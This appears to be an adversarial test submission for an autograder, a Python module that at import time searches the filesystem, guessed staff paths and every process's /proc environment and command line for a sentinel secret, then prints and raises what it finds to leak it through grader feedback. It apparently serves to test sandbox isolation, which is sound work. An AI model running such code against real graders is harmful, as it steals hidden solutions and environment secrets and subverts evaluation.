# hostile: on top of the reference
# At import: look everywhere (files, /proc, guessed staff paths) for the staff's secret text; print
# whatever holds it and raise it, so that it would reach the feedback. The secret is assembled at run
# time so that this file itself never holds it.
import os as _os
import sys as _sys

_secret = "-".join(("VZ", "STAFF", "ONLY", "SENTINEL", "7d3a9e"))
_found = []


def _look(_path, _limit=4 << 20):
    try:
        with open(_path, "rb") as _f:
            _blob = _f.read(_limit)
    except OSError:
        return
    if _secret.encode() in _blob:
        _found.append(f"{_path}: {_blob[:3000].decode(errors='replace')}")


for _root, _dirs, _files in _os.walk("/"):
    if _root.startswith(("/proc", "/sys", "/dev", "/usr", "/lib", _sys.base_prefix, _sys.prefix)):  # public system files
        _dirs[:] = []
        continue
    for _f in _files:
        if _f.endswith((".py", ".md", ".yaml", ".yml", ".json", ".csv", ".txt", ".ipynb")):
            _look(_os.path.join(_root, _f))
for _guess in ("/work/main/models/vit.py", "/work/main/autograder/staff/mistakes.py", "/autograder/source/models/vit.py",
               "../models/vit.py", "../../models/vit.py", "/proc/1/root/work/main/models/vit.py"):
    _look(_guess)
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    for _what in ("environ", "cmdline", "maps"):
        _look(f"/proc/{_pid}/{_what}")
if _found:
    print("\n".join(_found))
    raise RuntimeError("found: " + "\n".join(_found))
